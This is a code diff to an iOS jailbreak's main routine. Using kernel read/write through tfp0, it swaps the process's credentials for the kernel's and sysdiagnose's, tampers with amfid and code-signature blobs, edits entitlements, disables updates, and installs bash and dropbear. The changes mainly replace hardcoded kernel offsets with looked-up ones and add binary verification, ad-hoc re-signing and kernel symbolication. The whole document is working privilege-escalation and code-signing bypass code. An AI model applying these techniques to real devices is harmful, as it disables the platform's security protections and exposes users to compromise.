@@ -23,9 +23,19 @@
 #include "sha256.h"
 #include "remap_tfp0_to_hsp4.h"
 #include "debugging.h"
+#include "kernel_image.h"
+#include "kext_map.h"
+#include "symbolicator.h"
+#include "iokit_classes.h"
+#include "syscall_table.h"
+#include "adhoc_sign.h"
+#include "codesign.h"
 
 #define EACCES 0xd
 
+extern void* kernel_global;
+extern uint64_t kernel_size_global;
+
 mach_port_t kernel_task_port = MACH_PORT_NULL;
 uint64_t struct_proc_task_offset = 0x18;
 uint64_t struct_task_itk_space_offset = 0x300;
@@ -41,6 +51,27 @@ extern uint64_t old_amfid_MISVSACI;
 extern pthread_t exception_thread;
 extern uint64_t kill_thread_flag;
 
+// a copy or an extraction that stopped early only shows up as a crash when the binary runs, so check
+// every page against the code directory first
+static int verify_binary(const char* path)
+{
+    struct cs_verify_result result;
+    if (!cs_verify_file(path, 1, &result))
+    {
+        printf("[+]\t%s matches its code directory, %d pages\n", path, result.n_pages);
+    } else if (result.n_bad == 0) {
+        printf("[-]\t%s has no usable code signature, it may have been cut short\n", path);
+    } else {
+        printf("[-]\t%s is damaged, %d of %d pages don't match:", path, result.n_bad, result.n_pages);
+        for (uint32_t i = 0; i < result.n_bad && i < CS_VERIFY_MAX_BAD_PAGES; i++)
+        {
+            printf(" %d", result.bad_pages[i]);
+        }
+        printf("%s\n", result.n_bad > CS_VERIFY_MAX_BAD_PAGES ? " ..." : "");
+    }
+    return result.n_bad != 0;
+}
+
 void jailbreak(char* path, mach_port_t tfp0, int phone_type)
 {
     char *app_path = malloc(strlen(path) + 1);
@@ -91,8 +122,8 @@ void jailbreak(char* path, mach_port_t tfp0, int phone_type)
     }
     
     // overwrite the cred pointer with kern_task
-    old_creds = rk64(get_proc_block(getpid())+0x100);
-    wk64(get_proc_block(getpid())+0x100, rk64(get_proc_block(0)+0x100));
+    old_creds = rk64(get_proc_block(getpid())+koffset(KSTRUCT_OFFSET_PROC_UCRED));
+    wk64(get_proc_block(getpid())+koffset(KSTRUCT_OFFSET_PROC_UCRED), rk64(get_proc_block(0)+koffset(KSTRUCT_OFFSET_PROC_UCRED)));
     uint32_t amfid_pid = get_pid_from_name("amfid");
     if (amfid_pid == 0xffffffff)
     {
@@ -118,11 +149,11 @@ void jailbreak(char* path, mach_port_t tfp0, int phone_type)
     printf("[i]\tAMFID pid == 0x%x\n", get_pid_from_name("amfid"));
     uint64_t amfid_task = get_proc_block(get_pid_from_name("amfid"));
     printf("[i]\tGot amfid pid at 0x%llx\n", amfid_task);
-    uint64_t vnode_info = rk64(amfid_task+0x248);
+    uint64_t vnode_info = rk64(amfid_task+koffset(KSTRUCT_OFFSET_PROC_TEXTVP));
     printf("[i]\tVNODE INFO : 0x%llx\n", vnode_info);
-    uint64_t ubc_info = rk64(vnode_info+0xf*sizeof(uint64_t));
+    uint64_t ubc_info = rk64(vnode_info+koffset(KSTRUCT_OFFSET_VNODE_V_UBCINFO));
     printf("[i]\tMy UBC INFO is 0x%llx\n", ubc_info);
-    uint64_t blob = rk64(ubc_info+0xa*sizeof(uint64_t));
+    uint64_t blob = rk64(ubc_info+koffset(KSTRUCT_OFFSET_UBC_INFO_CS_BLOBS));
     char *csb = malloc(0xa8);
     mach_vm_address_t sz = 0;
     mach_vm_read_overwrite(tfp0, (mach_vm_address_t)blob, 0xa8, (mach_vm_address_t)csb, &sz);
@@ -138,7 +169,7 @@ void jailbreak(char* path, mach_port_t tfp0, int phone_type)
 
     // change our entitlements so we can use task_for_pid
     modify_entitlements(new_entitlements, tfp0);
-    wk64(get_proc_block(getpid())+0x100, rk64(sdProcStruct+0x100)); // overwrite the cred pointer with sys_diagnose
+    wk64(get_proc_block(getpid())+koffset(KSTRUCT_OFFSET_PROC_UCRED), rk64(sdProcStruct+koffset(KSTRUCT_OFFSET_PROC_UCRED))); // overwrite the cred pointer with sys_diagnose
     kill(sys_pid, SIGSTOP);
     kill(sys_pid, SIGSTOP);
     sleep(1);
@@ -188,6 +219,13 @@ void jailbreak(char* path, mach_port_t tfp0, int phone_type)
     fd = open("/jailbreak/tar", O_RDWR);
     write(fd, "\xcf\xfa\xed\xfe", 4);
     close(fd);
+    // and sign it ourselves so it doesn't matter what it was signed with before, unless it's
+    // damaged, a fresh signature would only hide that
+    struct adhoc_sign_options tar_sign = { .identifier = "tar" };
+    if (verify_binary("/jailbreak/tar") || adhoc_sign_file("/jailbreak/tar", &tar_sign))
+    {
+        printf("[-]\tcouldn't re-sign tar, hoping its own signature is still good\n");
+    }
     chmod("/jailbreak/tar", 0755);
     
     // unpack the binaries
@@ -202,6 +240,9 @@ void jailbreak(char* path, mach_port_t tfp0, int phone_type)
     chmod("/jailbreak/bin/bash", 0755);
     chmod("/jailbreak/bin/launchctl", 0755);
     chmod("/jailbreak/usr/local/bin/dropbear", 0755);
+    verify_binary("/jailbreak/bin/bash");
+    verify_binary("/jailbreak/bin/launchctl");
+    verify_binary("/jailbreak/usr/local/bin/dropbear");
     
     // stop auto-updating
     neuter_updates();
@@ -222,6 +263,16 @@ void jailbreak(char* path, mach_port_t tfp0, int phone_type)
     if (!copy_kernel_to_userspace(tfp0, kernel_base))
     {
         copy_userspace_kernel_to_file("/tmp/kernel_dump", kernel_base);
+        // check the hardcoded struct offsets against the kernel we're actually running on
+        struct kernel_image img;
+        if (!kimg_init(&img, kernel_global, kernel_base, kernel_size_global))
+        {
+            offsets_init_from_kernel(&img);
+            kext_map_build(&kernel_kexts, &img);
+            iokit_classes_build(&kernel_classes, &img);
+            syscall_table_build(&kernel_syscalls, &img);
+            symbolicator_build_kernel(&kernel_symbols, &img, &kernel_kexts, &kernel_syscalls);
+        }
         //props to QiLin stek29 for suggesting this - https://github.com/stek29
         remap_tfp0_to_hsp4(tfp0, kernel_base);
     }